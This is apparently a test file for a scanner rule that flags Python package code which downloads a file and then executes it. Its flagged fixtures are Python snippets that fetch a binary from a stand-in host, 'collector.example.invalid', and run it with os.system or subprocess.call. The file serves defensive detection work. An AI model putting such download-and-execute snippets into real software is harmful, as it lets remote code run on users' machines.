import { testRule } from '../../../../../test/builders/python-package.ts';
import { downloadAndRun } from './rule.ts';

testRule(downloadAndRun, {
  seen: {
    'a download that is started':
      "import os, urllib.request\nurllib.request.urlretrieve('https://collector.example.invalid/a', '/tmp/a.bin')\nos.system('/tmp/a.bin')",
    'a response written and started':
      "import requests, subprocess\ndata = requests.get('https://collector.example.invalid').content\nwith open('out.bin', 'wb') as f:\n    f.write(data)\nsubprocess.call('out.bin')",
  },
  unseen: {
    'a command that fetches from the package index':
      "import subprocess, urllib.request\nurllib.request.urlretrieve('https://pypi.org/a.tar.gz', 'a.tar.gz')\nsubprocess.call(['wget', 'https://pypi.org/a.tar.gz', '-O', 'a.tar.gz'])",
    'a download that stays data':
      "import urllib.request\nurllib.request.urlretrieve('https://collector.example.invalid/a', '/tmp/a.csv')",
  },
});
